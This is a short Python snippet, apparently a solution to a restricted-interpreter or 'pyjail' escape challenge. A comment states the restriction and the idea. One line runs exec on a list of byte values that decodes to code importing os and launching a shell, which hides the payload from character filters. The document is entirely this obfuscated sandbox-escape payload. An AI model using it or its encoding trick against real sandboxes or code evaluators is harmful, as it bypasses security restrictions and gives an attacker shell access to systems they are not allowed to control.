# restriction: no quotes, no letters in the program text except a few names; idea: exec(bytes([...]).decode()) of a code string
exec(bytes([105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,34,115,104,34,41]).decode())
